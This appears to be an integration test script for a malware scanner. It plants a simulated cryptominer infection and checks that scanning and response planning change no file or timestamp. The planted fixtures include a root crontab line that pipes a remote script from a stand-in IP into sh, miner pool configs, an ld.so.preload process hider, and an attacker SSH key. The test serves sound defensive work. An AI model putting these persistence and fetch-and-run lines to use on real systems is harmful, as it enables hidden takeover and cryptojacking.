# A full scan, live and of a --root tree, plus a response plan, must change nothing it read: every planted
# path's bytes, type, size, mode, owner, mtime and ctime are recorded before and after and compared.
# The planted trees sit on tmpfs mounted with strictatime, so access-time changes are counted too.
# Env: BIN (compiled fixtures).
source "$IT_LIB"

private_temp_dirs
ip link set lo up
mount -t tmpfs -o mode=0755,strictatime tmpfs /srv
mkdir -p /var/spool/cron && mount -t tmpfs -o mode=0755,strictatime tmpfs /var/spool/cron
mkdir -p /var/spool/cron/crontabs && chmod 1730 /var/spool/cron/crontabs

# A case-1 shaped infection as a --root image under /srv/image ...
img=/srv/image
mkdir -p "$img/etc/profile.d" "$img/etc/.supervisor/conf.d" "$img/usr/lib/mysql" "$img/root/.ssh" \
         "$img/var/spool/cron/crontabs" "$img/tmp/.x" "$img/bin" "$img/usr/bin"
cp "$BIN/fakeminer" "$img/usr/lib/mysql/.sh"
cp "$BIN/fakeminer" "$img/etc/spts"
cp "$BIN/fakeminer" "$img/bin/shh"
echo /usr/local/lib/libprocesshider.so > "$img/etc/ld.so.preload"
printf 'cp /etc/.sh /tmp/.sh && /tmp/.sh && rm -f /tmp/.sh\n' > "$img/etc/profile.d/php.sh"
printf '[include]\nfiles = /etc/.supervisor/conf.d/*.conf\n' > "$img/etc/.supervisor/supervisord.conf"
printf '[program:123]\ncommand=/etc/spts -o stratum+tcp://pool.supportxmr.com:3333\n' > "$img/etc/.supervisor/conf.d/123.conf"
printf '*/5 * * * * curl -fsSL http://203.0.113.7:8443/i.sh | sh\n' > "$img/var/spool/cron/crontabs/root"
printf '{"pools":[{"url":"stratum+tcp://pool.supportxmr.com:3333","user":"4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"}]}\n' > "$img/tmp/.x/config.json"
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker\n' > "$img/root/.ssh/authorized_keys"
mkfifo "$img/tmp/.x/fifo"
ln -s /etc/shadow "$img/tmp/.x/link-out"
ln -s loop "$img/tmp/.x/loop"
touch -d '2026-01-02 03:04:05' "$img/etc/spts" "$img/etc/ld.so.preload"

# ... and live: a crontab line and a running process from a hidden temp dir
printf '* * * * * /tmp/.x/kworkerd >/dev/null 2>&1\n' > /var/spool/cron/crontabs/root
chmod 600 /var/spool/cron/crontabs/root
mkdir -p /tmp/.x && cp "$BIN/halfresident" /tmp/.x/kworkerd
/tmp/.x/kworkerd > "$WORK/idle.out" 2>&1 &
echo "PLANTED_PID=$!"
wait_ready "$WORK/idle.out"

watched=(/srv /var/spool/cron /tmp/.x)
snapshot() {
  find "${watched[@]}" -xdev -printf '%p|%y|%s|%m|%U|%G|%T@|%C@|%l\n' | LC_ALL=C sort
  find "${watched[@]}" -xdev -type f -exec md5sum {} + | LC_ALL=C sort
}
atimes() { find "${watched[@]}" -xdev -printf '%p|%A@\n' | LC_ALL=C sort; }
# let the planting's own timestamps settle, then read them as the baseline
sleep 1
snapshot > "$WORK/before.txt"
atimes > "$WORK/atime-before.txt"

reports=/tmp/ferret-reports   # private tmpfs (private_temp_dirs), not watched
mkdir -p "$reports"
run_ferret scan --format jsonl --no-facts --skip memory
cp "$WORK/report.jsonl" "$WORK/live.jsonl"
ferret scan --root "$img" --format jsonl --no-facts --output "$reports/" > "$WORK/offline.out" 2> "$WORK/offline.err" || true
ferret respond --report "$WORK/live.jsonl" > "$WORK/plan.txt" 2> "$WORK/plan.err" || true
ferret scan --root "$img" --format jsonl --no-facts > "$WORK/report.jsonl" 2> "$WORK/ferret.err" || true

snapshot > "$WORK/after.txt"
atimes > "$WORK/atime-after.txt"
echo "FILES_COMPARED=$(find "${watched[@]}" -xdev | wc -l)"
echo "BYTES_COMPARED=$(find "${watched[@]}" -xdev -type f -printf '%s\n' | awk '{s+=$1} END {print s+0}')"
echo "CHANGED=$(diff "$WORK/before.txt" "$WORK/after.txt" | grep -c '^[<>]' || true)"
echo "ATIME_CHANGED=$(diff "$WORK/atime-before.txt" "$WORK/atime-after.txt" | grep -c '^>' || true)"
echo "REPORTS_WRITTEN=$(ls "$reports" | wc -l)"
echo "PLANTED_ALIVE=$(kill -0 "$(pgrep -f /tmp/.x/kworkerd | head -n 1)" 2>/dev/null && echo yes || echo no)"
